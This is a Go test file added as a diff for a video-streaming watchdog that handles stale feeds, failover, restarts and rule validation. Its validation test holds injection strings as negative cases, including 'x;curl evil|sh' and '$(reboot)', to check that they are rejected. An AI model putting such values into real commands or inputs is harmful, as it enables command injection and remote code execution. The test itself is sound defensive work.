@@ -0,0 +1,226 @@
+package watchdog
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+
+	log "github.com/sirupsen/logrus"
+	"github.com/timdrysdale/vw/agg"
+	"github.com/timdrysdale/vw/events"
+	"github.com/timdrysdale/vw/hub"
+)
+
+func init() {
+	log.SetLevel(log.PanicLevel)
+}
+
+func startWatchdog(closed chan struct{}) (*Watchdog, *agg.Hub) {
+	mh := agg.New()
+	go mh.Run(closed)
+	w := New(mh)
+	w.Interval = 5 * time.Millisecond
+	w.Events = events.New()
+	go w.Run(closed)
+	return w, mh
+}
+
+func sendFrames(mh *agg.Hub, feed string, stop chan struct{}) {
+	c := &hub.Client{Hub: mh.Hub, Name: "ffmpeg", Topic: feed, Send: make(chan hub.Message), Stats: hub.NewClientStats()}
+	for {
+		select {
+		case <-stop:
+			return
+		case <-time.After(2 * time.Millisecond):
+			mh.Broadcast <- hub.Message{Sender: *c, Data: []byte("frame"), Type: 2, Sent: time.Now()}
+		}
+	}
+}
+
+func TestStaleAndRecover(t *testing.T) {
+
+	closed := make(chan struct{})
+	defer close(closed)
+
+	w, mh := startWatchdog(closed)
+
+	ch := w.Events.Subscribe(10)
+
+	w.Add <- Rule{Feed: "video0", ThresholdMs: 20, Actions: []string{ActionLog, ActionEvent}}
+
+	stop := make(chan struct{})
+	go sendFrames(mh, "video0", stop)
+
+	time.Sleep(50 * time.Millisecond)
+
+	if w.Report()["video0"].Stale {
+		t.Error("Feed marked stale while sending")
+	}
+
+	close(stop)
+
+	select {
+	case e := <-ch:
+		if e.Kind != events.FeedSilent || e.Topic != "video0" {
+			t.Errorf("Wrong event %v", e)
+		}
+	case <-time.After(100 * time.Millisecond):
+		t.Error("Timed out waiting for stale event")
+	}
+
+	if !w.Report()["video0"].Stale {
+		t.Error("Feed not marked stale")
+	}
+
+	stop = make(chan struct{})
+	defer close(stop)
+	go sendFrames(mh, "video0", stop)
+
+	select {
+	case e := <-ch:
+		if e.Kind != events.FeedStarted || e.Topic != "video0" {
+			t.Errorf("Wrong event %v", e)
+		}
+	case <-time.After(100 * time.Millisecond):
+		t.Error("Timed out waiting for recovered event")
+	}
+
+	w.Delete <- "video0"
+
+	time.Sleep(time.Millisecond)
+
+	if _, ok := w.Report()["video0"]; ok {
+		t.Error("Watchdog not deleted")
+	}
+}
+
+func TestFailover(t *testing.T) {
+
+	closed := make(chan struct{})
+	defer close(closed)
+
+	w, mh := startWatchdog(closed)
+
+	mh.Add <- agg.Rule{Stream: "stream/large", Feeds: []string{"video0", "audio0"}, Mux: true}
+
+	w.Add <- Rule{Feed: "video0", ThresholdMs: 10, Actions: []string{ActionFailover}, Failover: "video1"}
+
+	time.Sleep(50 * time.Millisecond)
+
+	rule, _ := mh.Rule("stream/large")
+
+	expected := []string{"video1", "audio0"}
+	if !reflect.DeepEqual(rule.Feeds, expected) {
+		t.Errorf("Stream not failed over got/wanted %v/%v", rule.Feeds, expected)
+	}
+
+	if !rule.Mux {
+		t.Error("Stream no longer muxed after failover")
+	}
+
+	stop := make(chan struct{})
+	defer close(stop)
+	go sendFrames(mh, "video0", stop)
+
+	time.Sleep(50 * time.Millisecond)
+
+	rule, _ = mh.Rule("stream/large")
+
+	expected = []string{"video0", "audio0"}
+	if !reflect.DeepEqual(rule.Feeds, expected) {
+		t.Errorf("Stream not restored got/wanted %v/%v", rule.Feeds, expected)
+	}
+}
+
+func TestFailoverKeepsFilter(t *testing.T) {
+
+	closed := make(chan struct{})
+	defer close(closed)
+
+	w, mh := startWatchdog(closed)
+
+	mute := agg.Filter{Kinds: []string{"audio"}, Drop: true}
+
+	mh.Add <- agg.Rule{Stream: "stream/large", Feeds: []string{"camera0"}, Filters: map[string]agg.Filter{"camera0": mute}}
+
+	w.Add <- Rule{Feed: "camera0", ThresholdMs: 10, Actions: []string{ActionFailover}, Failover: "camera1"}
+
+	time.Sleep(50 * time.Millisecond)
+
+	rule, _ := mh.Rule("stream/large")
+
+	if !reflect.DeepEqual(rule.Filters, map[string]agg.Filter{"camera1": mute}) {
+		t.Errorf("Filter not moved to the failover feed %v", rule.Filters)
+	}
+
+	stop := make(chan struct{})
+	defer close(stop)
+	go sendFrames(mh, "camera0", stop)
+
+	time.Sleep(50 * time.Millisecond)
+
+	rule, _ = mh.Rule("stream/large")
+
+	if !reflect.DeepEqual(rule.Filters, map[string]agg.Filter{"camera0": mute}) {
+		t.Errorf("Filter not moved back on restore %v", rule.Filters)
+	}
+}
+
+func TestRestart(t *testing.T) {
+
+	closed := make(chan struct{})
+	defer close(closed)
+
+	dir, err := ioutil.TempDir("", "watchdog")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	w, _ := startWatchdog(closed)
+	w.Restart = []string{"touch", filepath.Join(dir, "{feed}")}
+
+	w.Add <- Rule{Feed: "video0", ThresholdMs: 10, Actions: []string{ActionRestart}}
+
+	time.Sleep(100 * time.Millisecond)
+
+	if _, err := os.Stat(filepath.Join(dir, "video0")); err != nil {
+		t.Error("Restart command not run")
+	}
+}
+
+func TestCheck(t *testing.T) {
+
+	good := Rule{Feed: "video0", ThresholdMs: 2000, Actions: []string{ActionLog, ActionFailover}, Failover: "video1"}
+
+	if err := Check(good); err != nil {
+		t.Errorf("Unexpected error %v", err)
+	}
+
+	bad := map[error]Rule{
+		errNoFeed:      {ThresholdMs: 2000},
+		errBadFeed:     {Feed: "x;curl evil|sh", ThresholdMs: 2000, Actions: []string{ActionRestart}},
+		errNoThreshold: {Feed: "video0"},
+		errBadAction:   {Feed: "video0", ThresholdMs: 2000, Actions: []string{"reboot"}},
+		errNoFailover:  {Feed: "video0", ThresholdMs: 2000, Actions: []string{ActionFailover}},
+	}
+
+	for expected, rule := range bad {
+		if err := Check(rule); err != expected {
+			t.Errorf("Wrong error got/wanted %v/%v", err, expected)
+		}
+	}
+
+	for _, rule := range []Rule{
+		{Feed: "video0", ThresholdMs: 2000, Actions: []string{ActionFailover}, Failover: "$(reboot)"},
+		{Feed: "--help", ThresholdMs: 2000, Actions: []string{ActionRestart}},
+		{Feed: "video 0", ThresholdMs: 2000, Actions: []string{ActionRestart}},
+	} {
+		if err := Check(rule); err != errBadFeed {
+			t.Errorf("Wrong error for %+v got/wanted %v/%v", rule, err, errBadFeed)
+		}
+	}
+}